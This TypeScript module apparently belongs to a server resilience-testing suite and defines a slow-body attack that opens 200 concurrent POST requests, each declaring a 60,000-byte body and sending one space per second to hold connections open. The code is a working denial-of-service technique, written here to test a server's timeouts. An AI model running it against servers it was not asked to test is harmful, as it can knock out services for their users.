import { request } from "node:http";
import { type Attack, headersOf } from "../attack.ts";

export default {
  what: "200 bodies of a byte a second",
  clients: 200,
  attack: (url) =>
    new Promise((resolve, reject) => {
      const headers = { ...headersOf(undefined), "content-length": 60_000 };
      const sent = request(url, { method: "POST", headers }, (answer) => {
        answer.resume().on("end", () => resolve(`${answer.statusCode}`));
      });
      const timer = setInterval(() => sent.write(" "), 1000);
      sent.on("close", () => clearInterval(timer));
      sent.on("error", reject);
    }),
} satisfies Attack;
